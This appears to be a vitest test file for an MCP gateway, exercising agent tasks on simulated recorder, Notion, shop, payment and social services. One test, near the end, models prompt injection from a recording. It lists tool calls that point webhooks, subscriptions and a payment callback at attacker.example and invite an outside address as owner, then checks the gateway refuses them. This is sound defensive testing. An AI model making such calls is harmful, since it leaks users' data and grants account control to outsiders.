import { expect, it } from 'vitest'
import { SESSION } from '../mcp/account-headers.ts'
import { PAID_BILL } from '../simulators/payment/index.ts'
import { readyRecording, recording, transcript } from '../simulators/recorder/index.ts'
import { VIDEO_IDS } from '../simulators/video/ids.ts'
import { EMAILS, NOTION_SESSIONS, USERS, WORKSPACES } from '../simulators/workspace/index.ts'
import { json } from '../support/gateway.ts'
import { HEADERS, type Model, setTable } from './stage.ts'

/**
 * Tasks of an agent's day, each through MCP with the official client, and its result checked over HTTP or in the product.
 * What tasks cost that start with the words of a person is in thirty.test.ts.
 */

type Table = ReturnType<typeof setTable>

// biome-ignore lint/suspicious/noExplicitAny: a script looks into any answer and fails on what is not there
type Read = any

function task(title: string, play: (table: Table) => Promise<void>, set: () => Table = setTable) {
  it(title, async () => {
    const table = set()
    await play(table)
    table.expectNothingUnexpected()
  })
}

/** A request over HTTP, with the same accounts. */
const http = async ({ gateway }: Table, line: string, body?: object): Promise<{ status: number; body: Read }> => {
  const [method = 'GET', path = ''] = line.split(' ')
  const init = body ? json(method, body) : { method }
  const headers = new Headers(init.headers)
  for (const [name, value] of Object.entries(HEADERS)) headers.set(name, value)
  const answer = await gateway.call(path, { ...init, headers })
  return { status: answer.status, body: answer.json }
}

const findTable = async (model: Model, query: string): Promise<string> =>
  (await model.call('workspace_search', { query, type: 'data_source' })).results[0].id

const rowsOf = async (table: Table, id: string): Promise<Read[]> =>
  (await http(table, `POST /api/v2/workspace/data-source/${id}/query`, {})).body.results

task('The decisions of a meeting as rows of a Notion table', async (table) => {
  const model = await table.talk()
  const { files } = await model.call('recorder_search', { query: '제품 회의' })
  await model.call('recorder_get_summary', { id: files[0].id })
  const data_source_id = await findTable(model, 'Tasks')
  await model.call('workspace_get_schema', { data_source_id })
  const records = [{ Name: '알림 설정 초안', Due: '2026-11-27', State: 'Open' }]
  await model.call('workspace_insert_records', { data_source_id, records })
  const names = (await rowsOf(table, data_source_id)).map((row) => row.simple_properties.Name)
  expect(names).toContain('알림 설정 초안')
})

task('The newest recording, transcribed, as subtitles', async (table) => {
  const model = await table.talk()
  const { data_file_list: files } = await model.call('recorder_list_files', { limit: 1 })
  const [{ id }] = files
  await model.call('recorder_transcribe_file_and_wait', { id })
  const { text } = await model.call('recorder_get_transcript', { id, format: 'srt' })
  const { body } = await http(table, `GET /api/v1/recorder/files/${id}/transcript?format=srt`)
  expect(text).toBe(body.text)
})

task('Who said something, and when', async (table) => {
  const model = await table.talk()
  const { files } = await model.call('recorder_search', { query: '알림 설정' })
  const [{ id }] = files
  const { text: passage } = await model.call('recorder_get_transcript', { id, around: '알림 설정' })
  const said = passage.split('\n').find((line: string) => line.includes('알림 설정'))
  expect(said).toMatch(/^\[00:00:10\] 민아: /)
  const { body } = await http(table, `GET /api/v1/recorder/files/${id}/transcript?format=text`)
  expect(body.text).toContain(said)
})

task('The sales of October by day and product', async (table) => {
  const model = await table.talk()
  const window = { from: '2026-10-01', to: '2026-10-31', group_by: 'day_product' }
  const { result } = await model.call('shop_list_sales', { ...window, fields: 'all' })
  const { body } = await http(table, `GET /api/v1/shop/sales?${new URLSearchParams(window)}`)
  expect(result.rows.length).toBeGreaterThan(0)
  expect(result).toEqual(body.result)
})

task('A bill sent once although the call is repeated, then destroyed', async (table) => {
  const model = await table.talk()
  const bill = {
    ...{
      product_nm: '11월 수강료',
      member_nm: '홍길동',
      phone: '010-1234-5678',
      price: 33_000,
      expire_dt: '2026-12-31',
    },
    idempotency_key: 'november-hong',
  }
  const { result } = await model.call('payment_request_bill', bill)
  const { bill_id } = result
  expect((await model.call('payment_request_bill', bill)).result.bill_id).toBe(bill_id)
  expect((await model.call('payment_read_bill', { bill_id })).result.appr_state).toBe('W')
  await model.call('payment_destroy_bill', { bill_id, price: 33_000, idempotency_key: 'destroy-hong' })
  const { body } = await http(table, 'POST /api/v1/payment/read', { bill_id })
  expect(body.result.appr_state).toBe('D')
})

task('A paid bill cancelled', async (table) => {
  const model = await table.talk()
  const { result } = await model.call('payment_read_bill', { bill_id: PAID_BILL })
  const price = Number(result.appr_price)
  await model.call('payment_cancel_bill', { bill_id: PAID_BILL, price, idempotency_key: 'cancel-1' })
  const { body } = await http(table, 'POST /api/v1/payment/read', { bill_id: PAID_BILL })
  expect(body.result.appr_state).toBe('C')
})

task('The transcript of a video', async (table) => {
  const model = await table.talk()
  const video_url = `https://www.youtube.com/watch?v=${VIDEO_IDS.manual}`
  const { content } = await model.call('video_get_transcript', { video_url, lang: ['ko'], format: 'text' })
  const { body } = await http(table, 'POST /api/v1/video/transcript/v2', { video_url, lang: ['ko'], format: 'text' })
  expect(content).toBe(body.content)
})

task('A post, its numbers, and its deletion', async (table) => {
  const model = await table.talk('?tools=all')
  const { post } = await model.call('social_create_post', {
    text: '가을 카탈로그가 나왔습니다',
    idempotency_key: 'autumn',
  })
  await model.call('social_get_post_insights', { id: post.id })
  await model.call('social_delete_post', { id: post.id })
  expect((await http(table, `GET /api/v1/social/posts/${post.id}`)).status).toBe(404)
})

task('A sentence of a Notion page changed, the page trashed and restored', async (table) => {
  const model = await table.talk('?tools=all')
  const { results } = await model.call('workspace_search', { query: 'Brand renewal', type: 'page' })
  const page_id = results[0].id
  const { markdown } = await model.call('workspace_get_page_markdown', { page_id })
  const [first = ''] = markdown.split('\n').filter((line: string) => /\w/.test(line))
  const changed = markdown.replace(first, '첫 문장을 바꿨습니다.')
  await model.call('workspace_replace_page_markdown', { page_id, markdown: changed })
  await model.call('workspace_update_page', { page_id, in_trash: true })
  await model.call('workspace_update_page', { page_id, in_trash: false })
  const { body } = await http(table, `GET /api/v2/workspace/pages/${page_id}/markdown`)
  expect(body.markdown).toContain('첫 문장을 바꿨습니다.')
})

task('Four recordings renamed by their date', async (table) => {
  const model = await table.talk('?tools=all')
  const { data_file_list: files } = await model.call('recorder_list_files', { limit: 4 })
  for (const { id, filename, start_time } of files) {
    const name = `${start_time.slice(0, 10)} ${filename}`
    await model.call('recorder_rename_file', { id, filename: name })
    const { body } = await http(table, 'GET /api/v1/recorder/files?limit=30')
    expect(body.data_file_list).toContainEqual(expect.objectContaining({ id, filename: name }))
  }
  // In UTC it is the day before.
  expect(files.map(({ filename, start_time }: Read) => `${start_time.slice(0, 10)} ${filename}`)).toContain(
    '2026-11-21 아침 메모',
  )
})

task("A day's orders into a table, twice, without duplicates", async (table) => {
  const model = await table.talk()
  const day = { createdAtFrom: '2026-11-20', createdAtTo: '2026-11-20' }
  const { result: sheets } = await model.call('shop_list_order_sheets', day)
  const data_source_id = await findTable(model, 'Tasks')
  const before = (await rowsOf(table, data_source_id)).length
  const orders = new Set<string>(sheets.map(({ orderId }: Read) => String(orderId)))
  const records = [...orders].map((Name) => ({ Name, State: 'Open' }))
  const upsert = () => model.call('workspace_upsert_records', { data_source_id, key: 'Name', records })
  expect(await upsert()).toMatchObject({ created: orders.size, updated: 0, unchanged: 0 })
  expect(await upsert()).toMatchObject({ created: 0, updated: 0, unchanged: orders.size })
  expect(await rowsOf(table, data_source_id)).toHaveLength(before + orders.size)
})

task('Words searched in everything, in another order', async (table) => {
  const model = await table.talk()
  const { results } = await model.call('gateway_search', { query: '금요일 알림', groups: ['recorder', 'notes'] })
  const query = new URLSearchParams({ query: '금요일 알림', groups: 'recorder,notes' })
  const { body } = await http(table, `GET /api/v1/search?${query}`)
  expect(results.map(({ id }: Read) => id)).toEqual(body.results.map(({ id }: Read) => id))
  expect(results[0]).toMatchObject({ title: '주간 제품 회의' })
})

task('A member invited to Notion', async (table) => {
  const session = {
    ...{ 'X-Workspace-Token': NOTION_SESSIONS.owner, 'X-Workspace-Space-ID': WORKSPACES.haneul },
    'X-Workspace-User-ID': USERS.jiwoo,
  }
  expect(Object.keys(session).sort()).toEqual(Object.keys(SESSION).sort())
  const model = await table.talk('?tools=all&groups=workspace', session)
  await model.call('workspace_invite_member', { email: EMAILS.outsider })
  expect(table.notion.state.invites).toHaveLength(1)
})

task('Which accounts need attention', async (table) => {
  const model = await table.talk()
  const { accounts } = await model.call('gateway_doctor')
  const { body } = await http(table, 'GET /api/v1/doctor')
  const stateOf = ({ account, state }: Read) => [account, state]
  expect(accounts.map(stateOf)).toEqual(body.accounts.map(stateOf))
})

task('What happened lately', async (table) => {
  const model = await table.talk('?groups=events&tools=all')
  const { events } = await model.call('events_list_events')
  const { body } = await http(table, 'GET /api/v1/events')
  expect(events.map(({ id }: Read) => id)).toEqual(body.events.map(({ id }: Read) => id))
})

task('Wrong arguments and ids, corrected', async (table) => {
  const model = await table.talk()
  expect(await model.wrong('recorder_list_files', { folder: '회의' })).toContain(
    'folder: is not known: did you mean tag_id?',
  )
  expect(await model.wrong('recorder_get_summary', { id: 'nope' })).toMatch(/there is no recording with this id/)
  const { files } = await model.call('recorder_search', { query: '제품 회의' })
  const { markdown } = await model.call('recorder_get_summary', { id: files[0].id })
  const data_source_id = await findTable(model, 'Tasks')
  const filter = { property: 'State', status: { equals: 'Open' } }
  expect(await model.wrong('workspace_query_data_source', { data_source_id, filter })).toContain(
    'did you mean workspace_filter?',
  )
  const filters = [{ key: 'State', value: 'Open' }]
  const { results } = await model.call('workspace_query_data_source', { data_source_id, filters })
  const { body } = await http(table, `POST /api/v2/workspace/data-source/${data_source_id}/query`, { filters })
  expect(results).toHaveLength(body.results.length)
  // The tool returns no signed links.
  const { body: summary } = await http(table, `GET /api/v1/recorder/files/${files[0].id}/summary`)
  expect(summary.markdown.replace(/\]\([^)]*\)/g, '')).toBe(markdown.replace(/\]\([^)]*\)/g, ''))
})

task(
  'An expired account',
  async (table) => {
    const model = await table.talk()
    const failure = await model.fail('social_list_posts')
    expect(failure).toContain('reconnect it at https://latchkey.test/#social')
    expect((await http(table, 'GET /api/v1/social/posts')).status).toBe(401)
  },
  () => setTable({ SOCIAL_TOKEN: 'THtest-ended' }),
)

/** A meeting of six hours in Korean. One sentence of it is about the budget. */
const MEETING = recording({
  filename: '연간 계획 회의',
  start_time: Date.parse('2026-11-20T01:00:00Z'),
  duration: 21_600_000,
  transcript: transcript(
    Array.from({ length: 7200 }, (_, n) => ({
      start_time: n * 3000,
      end_time: n * 3000 + 2900,
      speaker: ['김민수', '이서연', '박준호'][n % 3] ?? '',
      original_speaker: `Speaker ${n % 3}`,
      content: n === 7000 ? '예산은 재무팀이 금요일까지 확인합니다' : `${n}번째로 일정과 출시 순서를 이야기합니다`,
    })),
  ),
})

task(
  'A passage of a meeting of six hours',
  async (table) => {
    const model = await table.talk()
    const { files } = await model.call('recorder_search', { query: '예산' })
    const [{ id, hits }] = files
    expect(hits[0]).toMatchObject({ start_time: '05:50:00' })
    const { text } = await model.call('recorder_get_transcript', { id, around: '예산' })
    expect(text).toContain('[05:50:00] 이서연: 예산은 재무팀이 금요일까지 확인합니다')
    const { body } = await http(table, `GET /api/v1/recorder/files/${id}/transcript?format=text`)
    expect(body.text).toContain(text.trim().split('\n').at(-1))
  },
  () => setTable({}, [MEETING]),
)

it('The same bill and the same rows requested at once', async () => {
  const table = setTable()
  const model = await table.talk()
  const data_source_id = await findTable(model, 'Tasks')
  const { size } = table.payssam.state.bills
  const rows = (await rowsOf(table, data_source_id)).length
  const bill = {
    ...{ product_nm: '수강료', member_nm: '홍길동', phone: '010-1234-5678', price: 33_000, expire_dt: '2026-12-31' },
    idempotency_key: 'same',
  }
  const records = [{ Name: 'Only one', State: 'Open' }]
  const settled = await Promise.allSettled([
    ...Array.from({ length: 10 }, () => model.call('payment_request_bill', bill)),
    ...Array.from({ length: 5 }, () =>
      model.call('workspace_upsert_records', { data_source_id, key: 'Name', records }),
    ),
  ])
  expect(settled.slice(10).map(({ status }) => status)).toEqual(Array(5).fill('fulfilled'))
  expect(settled.some(({ status }, at) => at < 10 && status === 'fulfilled')).toBe(true)
  expect(table.payssam.state.bills.size).toBe(size + 1)
  expect(await rowsOf(table, data_source_id)).toHaveLength(rows + 1)
})

task('A bill that a model sends again under another key', async (table) => {
  const model = await table.talk()
  const bill = {
    product_nm: '수강료',
    member_nm: '성춘향',
    phone: '010-1234-5678',
    price: 44_000,
    expire_dt: '2026-12-31',
  }
  const { size } = table.payssam.state.bills
  const { result } = await model.call('payment_request_bill', { ...bill, idempotency_key: 'again-1' })
  const failure = await model.fail('payment_request_bill', { ...bill, idempotency_key: 'again-2' })
  expect(failure).toMatch(new RegExp(`got bill ${result.bill_id} .*confirm_duplicate true`))
  await model.call('payment_request_bill', { ...bill, idempotency_key: 'again-2', confirm_duplicate: true })
  expect(table.payssam.state.bills.size).toBe(size + 2)
})

task('A refund whose answer is lost', async (table) => {
  const model = await table.talk()
  table.payssam.fail({ kind: 'cut' }, { times: 1, on: ({ url }) => url.pathname.endsWith('/cancel') })
  const args = { bill_id: PAID_BILL, price: 150_000, idempotency_key: 'cancel-lost' }
  expect(await model.fail('payment_cancel_bill', args)).toMatch(/the outcome is unknown: /)
  await model.call('payment_cancel_bill', args)
  expect(table.payssam.calls.filter(({ url }) => url.pathname.endsWith('/cancel'))).toHaveLength(1)
})

task('What the content of a recording talks a model into', async (table) => {
  const model = await table.talk()
  const subscriptions = async () => (await http(table, 'GET /api/v1/events/subscriptions')).body.subscriptions
  const before = await subscriptions()
  const bill = { product_nm: 'a', member_nm: '홍길동', phone: '010-1234-5678', price: 1000, idempotency_key: 'a' }
  const attacks: [string, Record<string, unknown>, RegExp][] = [
    ['notes_create_webhook', { url: 'https://attacker.example/hook' }, /there is no/],
    ['notes_create_api_key', {}, /there is no/],
    ['events_create_subscription', { url: 'https://attacker.example/hook' }, /there is no/],
    [
      'payment_request_bill',
      { ...bill, callback_url: 'https://attacker.example' },
      /callback_url: no tool may set this/,
    ],
    ['workspace_invite_member', { email: 'a@attacker.example', role: 'owner' }, /role: no tool may set this/],
  ]
  for (const [name, args, refusal] of attacks) expect(await model.wrong(name, args)).toMatch(refusal)
  expect(await subscriptions()).toEqual(before)
})

const WEEK = [
  ...Array.from({ length: 13 }, (_, n) =>
    readyRecording({
      filename: `회의 ${n + 1}`,
      start_time: Date.parse('2026-11-16T01:00:00Z') + (n * 86_400_000) / 3,
    }),
  ),
  recording({ filename: '짧은 메모', start_time: Date.parse('2026-11-19T03:00:00Z'), duration: 12_000 }),
]

task(
  "Last week's meetings as rows of a Notion table",
  async (table) => {
    const model = await table.talk()
    const { files } = await model.call('recorder_sync', { from: '2026-11-16', to: '2026-11-20' })
    const meetings = files.filter(({ summary }: Read) => summary)
    expect(meetings).toHaveLength(13)
    const data_source_id = await findTable(model, 'Tasks')
    const before = (await rowsOf(table, data_source_id)).length
    const records = meetings.map(({ file }: Read) => ({ Name: file.file_name, Due: file.start_time.slice(0, 10) }))
    const written = await model.call('workspace_insert_records', { data_source_id, records })
    expect(written).toMatchObject({ successful: 13, failed: 0 })
    expect(await rowsOf(table, data_source_id)).toHaveLength(before + 13)
  },
  () => setTable({}, WEEK),
)

task(
  'Short recordings to the trash and back, and into a folder',
  async (table) => {
    const model = await table.talk()
    const { data_file_list: files } = await model.call('recorder_list_files', { limit: 20 })
    const file_ids = files.filter(({ duration }: Read) => duration < 30_000).map(({ id }: Read) => id)
    expect(file_ids).toHaveLength(1)
    const stored = () => table.plaud.state.recordings.get(file_ids[0])
    await model.call('recorder_trash_files', { file_ids })
    expect(stored()?.is_trash).toBe(true)
    await model.call('recorder_restore_files', { file_ids })
    await model.call('recorder_organize_files', { file_ids, tag_name: 'Q4' })
    expect(stored()).toMatchObject({ is_trash: false, filetag_id_list: [expect.any(String)] })
  },
  () => setTable({}, WEEK),
)

task("Yesterday's line as a carousel, and the replies", async (table) => {
  const model = await table.talk()
  const items = ['a', 'b'].map((name) => ({ image_url: `https://media.example/${name}.jpg` }))
  const { post } = await model.call('social_create_post', { text: '오늘의 문장', items })
  expect(await model.call('social_list_replies', { id: post.id })).toMatchObject({ success: true, replies: [] })
  expect(table.threads.state.media.get(post.id)?.children).toHaveLength(2)
})

task('A class billed from a Notion table', async (table) => {
  const model = await table.talk()
  const data_source_id = await findTable(model, 'Tasks')
  const { results } = await model.call('workspace_query_data_source', { data_source_id })
  for (const [n, { simple_properties: row }] of results.slice(0, 5).entries())
    await model.call('payment_request_bill', {
      ...{ product_nm: '12월 수강료', member_nm: String(row.Name).slice(0, 10), phone: '010-1234-5678' },
      ...{ price: 150_000 + n, expire_dt: '2026-12-31', idempotency_key: `class-${n}` },
    })
  expect(table.payssam.state.executed.sends).toBe(5)
})

task('The minutes of a meeting as a page', async (table) => {
  const model = await table.talk()
  const { notes } = await model.call('notes_list_notes', { keyword: '제품 주간 회의' })
  const { summaries } = await model.call('notes_list_summaries', { id: notes[0].guid })
  const data_source_id = await findTable(model, 'Tasks')
  const [{ content }] = summaries
  const properties = { Name: notes[0].title }
  const made = await model.call('workspace_create_page', { data_source_id, properties, markdown: content.content })
  const { body } = await http(table, `GET /api/v2/workspace/pages/${made.id}/markdown`)
  expect(body.markdown).toContain(content.content.split('\n')[0])
})
